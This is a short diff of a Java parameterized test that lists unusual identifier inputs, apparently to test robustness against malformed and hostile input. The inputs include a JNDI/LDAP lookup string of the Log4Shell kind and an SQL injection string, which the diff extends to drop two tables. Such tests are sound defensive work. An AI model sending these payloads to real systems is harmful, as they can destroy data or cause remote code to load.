@@ -182,7 +182,7 @@ class EveryIdentifierTest {
                     "\u0399P1 1AA",
                     "ﬅ1 1AA",
                     "%s%n${jndi:ldap://example.org}",
-                    "'; drop table cases; --");
+                    "'; drop table cases, people; --");
         }
 
         @ParameterizedTest
